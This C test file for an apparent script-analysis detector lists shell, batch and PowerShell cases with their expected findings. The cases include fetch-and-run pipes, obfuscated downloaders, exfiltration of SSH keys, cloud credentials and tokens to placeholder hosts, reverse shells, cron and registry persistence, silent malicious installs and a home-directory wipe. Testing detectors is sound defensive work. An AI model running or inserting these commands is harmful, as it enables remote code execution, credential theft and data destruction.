/* shell_test.c - shell scripts, batch files and command lines: cases as data, then what must not
 * hurt. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "facts/languages/command.h"
#include "support/say_facts.h"

extern const RtLanguage rt_language_shell, rt_language_batch;

typedef struct {
    const char *name, *script, *wanted;
} Case;

static const Case shell_cases[] = {
    { "fetch and pipe", "curl -fsSL https://a.invalid/x.sh | bash",
      "net.request|https://a.invalid/x.sh|GET\ncode.eval||pipe bash <- net.request" },
    { "wget to stdout", "wget -qO- http://192.0.2.1/i | sudo sh -s -- -y",
      "net.request|http://192.0.2.1/i|GET\ncode.eval||pipe sh <- net.request" },
    { "through filters", "curl -s https://a.invalid/b | base64 -d | gunzip | sh",
      "data.decode|base64 <- net.request\ndata.decode|gunzip <- data.decode\ncode.eval||pipe sh <- "
      "data.decode" },
    { "process substitution", "bash <(curl -s https://a.invalid/y)",
      "code.eval||pipe bash <- net.request" },
    { "dash c substitution", "sh -c \"$(curl -fsSL https://a.invalid/z)\"",
      "code.eval||inline sh <- net.request" },
    { "eval of a fetch", "eval \"$(wget -qO- https://a.invalid/q)\"",
      "code.eval||eval <- net.request" },
    { "backticks", "eval `curl https://a.invalid/w`", "code.eval||eval <- net.request" },
    { "write then run", "curl -o /tmp/.x https://a.invalid/bin\nchmod +x /tmp/.x\n/tmp/.x &",
      "file.write|/tmp/.x|||write <- net.request\nfile.chmod|/tmp/.x|+x <- "
      "file.write\nproc.exec|/tmp/.x|shell|detached <- file.write" },
    { "variables", "H=https://a.invalid\nU=\"$H/p\"\ncurl -sSLo out.sh $U && sh out.sh",
      "net.request|https://a.invalid/p|GET\nfile.write|out.sh\nproc.exec|sh out.sh|shell <- "
      "file.write" },
    { "decoded text runs", "echo Y3VybCBodHRwczovL2EuaW52YWxpZC9rIHwgc2g= | base64 --decode | bash",
      "data.decode|base64|curl https://a.invalid/k | sh\ncode.eval|curl https://a.invalid/k | "
      "sh|pipe bash <- data.decode\n"
      "net.request|https://a.invalid/k\ncode.eval||pipe sh <- net.request" },
    { "rev and tr", "echo 'fu | k/qvyniav.n//:fcggu yehp' | rev | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
      "code.eval|curl https://a.invalid/x | hs|pipe sh" },
    { "environment out", "curl -X POST -d \"$(env)\" https://a.invalid/e",
      "env.read|*\nnet.request|https://a.invalid/e|POST <- env.read" },
    { "secret file out", "cat ~/.ssh/id_rsa | curl --data-binary @- https://a.invalid/u",
      "file.read|~/.ssh/id_rsa\nnet.request|https://a.invalid/u|POST|@- <- file.read" },
    { "home is a tilde", "curl -F \"f=@$HOME/.npmrc\" https://a.invalid/u",
      "file.read|~/.npmrc\nnet.request|https://a.invalid/u|POST|f=@~/.npmrc <- file.read" },
    { "beacon", "curl \"https://a.invalid/?h=$(hostname)&u=$(whoami)\"",
      "net.request|https://a.invalid/?h=&u=|GET <- host.info host.info" },
    { "token", "curl -H \"Authorization: $GITHUB_TOKEN\" https://a.invalid/",
      "env.read|GITHUB_TOKEN\nnet.request|https://a.invalid/|GET||Authorization:  <- env.read" },
    { "tar pipe", "tar czf - ~/.aws | curl -T - https://a.invalid/t",
      "file.read|~/.aws\nnet.request|https://a.invalid/t|POST|- <- file.read" },
    { "archive then send",
      "zip -r /tmp/a.zip ~/.config/gcloud; curl -F file=@/tmp/a.zip https://a.invalid/t",
      "file.write|/tmp/a.zip|||write <- "
      "file.read\nnet.request|https://a.invalid/t|POST|file=@/tmp/a.zip <- file.write" },
    { "reverse shell", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
      "net.connect|192.0.2.7|4444||tcp\ncall|reverse-shell" },
    { "nc -e", "nc -e /bin/sh 192.0.2.7 9001", "call|reverse-shell\nnet.connect|192.0.2.7|9001" },
    { "cron", "(crontab -l; echo '* * * * * curl https://a.invalid/c | sh') | crontab -",
      "call|persistence|crontab\nfile.write|crontab|* * * * * curl https://a.invalid/c | "
      "sh||start-up" },
    { "rc file", "echo 'node ~/.x.js' >> ~/.bashrc", "file.write|~/.bashrc|node ~/.x.js||append" },
    { "here document", "cat > /tmp/r.sh <<EOF\ncurl https://a.invalid/h | sh\nEOF\nbash /tmp/r.sh",
      "file.write|/tmp/r.sh|curl https://a.invalid/h | sh\nproc.exec|bash /tmp/r.sh|shell <- "
      "file.write\ncode.eval||pipe sh <- net.request" },
    { "node inline", "node -e \"require('./x')\"", "code.eval|require('./x')|inline node" },
    { "font run by node",
      "(command -v node >/dev/null 2>&1 && node ./public/fonts/a.woff2) || (where node >nul 2>&1 "
      "&& node ./public/fonts/a.woff2) || echo ''",
      "call|interpreter-on-asset|node|./public/fonts/a.woff2\nproc.exec|node "
      "./public/fonts/a.woff2|shell" },
    { "hidden install", "cd /tmp && npm install --silent evil-x@1.0.0 >/dev/null 2>&1",
      "call|package-manager install|npm|evil-x@1.0.0|--silent" },
    { "pip via python", "python3 -m pip install -q --index-url https://a.invalid/simple evil",
      "call|package-manager install|pip|evil|-q --index-url https://a.invalid/simple" },
    { "plain install says nothing", "npm install && npm run build && tsc -p .",
      "!call\n!net.request\n!proc.exec" },
    { "loop", "for f in a b; do curl https://a.invalid/$f; done",
      "net.request|https://a.invalid/a" },
    { "if then", "if [ -f x ]; then wget https://a.invalid/x -O y; fi",
      "net.request|https://a.invalid/x\nfile.write|y" },
    { "find and xargs", "find ~/.ssh | xargs cat || true",
      "file.list|~/.ssh\nfile.read|~/.ssh <- file.list" },
    { "ansi quoting", "$'\\x63url' https://a.invalid/a|$'s\\150'",
      "net.request|https://a.invalid/a\ncode.eval||pipe sh" },
    { "quotes inside words", "c\"u\"'r'l ht''tps://a.invalid/s | s\\h",
      "net.request|https://a.invalid/s\ncode.eval||pipe sh" },
    { "substring", "x=qcurlq; ${x:1:4} https://a.invalid/s", "net.request|https://a.invalid/s" },
    { "comment", "# curl https://a.invalid/no | sh\necho hi", "!net.request" },
    { "quoted text is text", "echo 'run: curl https://a.invalid | sh'", "!net.request" },
    { "agent", "claude --dangerously-skip-permissions -p 'list secrets'", "call|ai-agent|claude" },
    { "git hooks path", "git config --global core.hooksPath /tmp/h",
      "call|git-config|core.hooksPath|/tmp/h" },
    { "delete home", "rm -rf ~/", "file.delete|~/" },
};

static const Case batch_cases[] = {
    { "certutil",
      "@echo off\r\ncertutil.exe -urlcache -split -f http://192.0.2.4/a.exe %TEMP%\\a.exe\r\nstart "
      "/b %TEMP%\\a.exe\r\n",
      "call|lolbin|certutil\nnet.request|http://192.0.2.4/a.exe|GET\nfile.write|/"
      "tmp\\a.exe|||write <- net.request\nproc.exec|/tmp\\a.exe|shell|detached" },
    { "slices",
      "set \"a=lruc\"\r\nset b=%a:~3,1%%a:~2,1%%a:~1,1%%a:~0,1%\r\n%b% https://a.invalid/x -o "
      "y.cmd",
      "net.request|https://a.invalid/x|GET\nfile.write|y.cmd" },
    { "carets", "c^u^r^l https://a.invalid/c | c^m^d",
      "net.request|https://a.invalid/c\ncode.eval||pipe cmd <- net.request" },
    { "schtasks", "schtasks /create /tn up /tr \"node c:\\x.js\" /sc onlogon",
      "call|persistence|schtasks\nfile.write|schtasks|node c:\\x.js||start-up" },
    { "run key",
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d \"wscript a.vbs\" "
      "/f",
      "file.write|HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run|wscript "
      "a.vbs||registry" },
    { "rundll32", "rundll32.exe package.db,Start",
      "call|lolbin|rundll32|rundll32.exe package.db,Start" },
    { "rename and delete", "ren pk.json package.json\r\ndel /q x.js",
      "file.rename|pk.json|package.json\nfile.delete|x.js" },
    { "if exist", "if exist \"c:\\x\" curl https://a.invalid/i",
      "net.request|https://a.invalid/i" },
};

static const Case command_cases[] = {
    { "powershell fetch",
      "powershell -w hidden -ep bypass -c \"IEX(New-Object "
      "Net.WebClient).DownloadString('https://a.invalid/p')\"",
      "call|powershell|hidden bypass\nnet.request|https://a.invalid/p|GET\ncode.eval||IEX <- "
      "net.request" },
    { "powershell encoded",
      "powershell.exe -NoP -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYQAuAGkAbgB2AGEAbABpAGQALwBlAA==",
      "call|powershell| encoded\ndata.decode|powershell -enc|iwr "
      "https://a.invalid/e\nnet.request|https://a.invalid/e" },
    { "cmd pipe", "curl --ssl-no-revoke -L https://a.invalid/w | cmd",
      "net.request|https://a.invalid/w\ncode.eval||pipe cmd <- net.request" },
    { "sentence with backticks", "First run `curl https://a.invalid/s | bash` in the terminal",
      "code.eval||pipe bash <- net.request" },
    { "workflow secret", "curl -d \"${{ secrets.NPM_TOKEN }}\" https://a.invalid/",
      "env.read|secrets.NPM_TOKEN\nnet.request|https://a.invalid/|POST <- env.read" },
};

static int run_cases(const RtLanguage *language, const Case *cases, size_t count)
{
    int missing = 0;
    for (size_t i = 0; i < count; i++) {
        RtStr script = rt_str_from_c(cases[i].script);
        FAKE_SINK fake = fake_sink_open(RT_STR("x"), script);
        if (language)
            language->observe(&fake->layers[1], 1, &fake->sink);
        else
            rt_command_observe(script, 1, 0, script.len, RT_SEEN_IN_MANIFEST, false, &fake->sink,
                               0);
        missing += miss_facts(cases[i].name, say_facts(fake), cases[i].wanted);
    }
    return missing;
}

static void test_shell(void **state)
{
    (void)state;
    assert_int_equal(run_cases(&rt_language_shell, shell_cases, RT_COUNT(shell_cases)), 0);
}

static void test_batch(void **state)
{
    (void)state;
    assert_int_equal(run_cases(&rt_language_batch, batch_cases, RT_COUNT(batch_cases)), 0);
}

static void test_command(void **state)
{
    (void)state;
    assert_int_equal(run_cases(NULL, command_cases, RT_COUNT(command_cases)), 0);
}

static void test_truncated(void **state)
{
    (void)state;
    for (size_t i = 0; i < RT_COUNT(shell_cases) + RT_COUNT(batch_cases); i++) {
        bool shell = i < RT_COUNT(shell_cases);
        RtStr script = rt_str_from_c(shell ? shell_cases[i].script
                                           : batch_cases[i - RT_COUNT(shell_cases)].script);
        for (size_t len = 0; len <= script.len; len++) {
            FAKE_SINK fake = fake_sink_open(RT_STR("x"), rt_str_sub(script, 0, len));
            (shell ? &rt_language_shell : &rt_language_batch)
                ->observe(&fake->layers[1], 1, &fake->sink);
        }
    }
}

/* A phase and a reason come from the fact whose command it is; our own proc.exec facts are left
 * alone. */
static void test_reason(void **state)
{
    (void)state;
    FAKE_SINK fake = fake_sink_open(RT_STR("package.json"), RT_STR("{}"));
    RtFactId hook =
        fake->sink.fact(&fake->sink, (RtFact){ .kind = RT_FACT_INSTALL_HOOK, .layer = 1 });
    rt_command_observe(RT_STR("curl https://a.invalid/ | sh"), 1, 0, 2, RT_SEEN_IN_MANIFEST, false,
                       &fake->sink, hook);
    assert_int_equal(fake->facts[2].kind, RT_FACT_NET_REQUEST);
    assert_int_equal(fake->facts[2].phase, RT_WHEN_INSTALL);
    assert_int_equal(fake->facts[2].because[fake->facts[2].because_count - 1], hook);
    rt_command_observe(RT_STR("./run.sh &"), 1, 0, 2, RT_SEEN_IN_MANIFEST, false, &fake->sink,
                       hook);
    size_t count = fake->fact_count;
    assert_int_equal(fake->facts[count - 1].kind, RT_FACT_PROC_EXEC);
    rt_command_observe(RT_STR("./run.sh"), 1, 0, 2, RT_SEEN_IN_FLOW, false, &fake->sink,
                       (RtFactId)(count - 1));
    assert_int_equal(fake->fact_count, count);
}

static RtStr repeated(FakeSink *fake, const char *piece, size_t times)
{
    RtText out = { .arena = fake->sink.arena };
    for (size_t i = 0; i < times; i++)
        rt_text_add(&out, rt_str_from_c(piece));
    return rt_text_str(&out);
}

static void test_hostile(void **state)
{
    (void)state;
    static const char *const pieces[] = { "$(",          "`",
                                          "\"$(",        "${x:-",
                                          "(",           "{ ",
                                          "a=$a$a;",     "a=x;a=$a$a$a;b=\"$a$a\";",
                                          "cat <<E\n",   "\\",
                                          "'",           "| sh ",
                                          "eval ",       "sudo ",
                                          "> ",          "sh -c '",
                                          "%a%",         "^",
                                          "$'\\x",       "<(",
                                          "%a:~0,9%%a%", "set a=%a%%a%\n",
                                          "curl -" };
    for (size_t i = 0; i < RT_COUNT(pieces); i++) {
        FAKE_SINK fake = fake_sink_open(RT_STR("x"), RT_STR(""));
        RtStr text = repeated(fake, pieces[i], 20000);
        RtLayer layer = { .bytes = text };
        rt_language_shell.observe(&layer, 1, &fake->sink);
        rt_language_batch.observe(&layer, 1, &fake->sink);
        rt_language_shell.imports(&layer, 1, &fake->sink);
    }
}

static void test_bids(void **state)
{
    (void)state;
    assert_true(rt_language_shell.bid(RT_STR("x"), RT_STR("#!/bin/bash\necho\n")) > 90);
    assert_int_equal(rt_language_shell.bid(RT_STR("x"), RT_STR("#!/usr/bin/env node\n")), 0);
    assert_true(rt_language_shell.bid(RT_STR("a.sh"), RT_STR("ls")) > 70);
    assert_true(rt_language_shell.bid(RT_STR("p/.husky/pre-commit"), RT_STR("npx lint-staged")) >
                50);
    assert_true(rt_language_shell.bid(RT_STR(""), RT_STR("curl https://a.invalid | sh")) > 50);
    assert_int_equal(rt_language_shell.bid(RT_STR(""), RT_STR("curl is a tool")), 0);
    assert_int_equal(rt_language_shell.bid(RT_STR("a.js"), RT_STR("if (a) b()\n")), 0);
    assert_true(rt_language_batch.bid(RT_STR("a.txt"), RT_STR("@echo off\r\n")) > 90);
    assert_int_equal(rt_language_batch.bid(RT_STR("a.js"), RT_STR("let a = 1")), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_shell),   cmocka_unit_test(test_batch),
        cmocka_unit_test(test_command), cmocka_unit_test(test_truncated),
        cmocka_unit_test(test_reason),  cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_bids),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
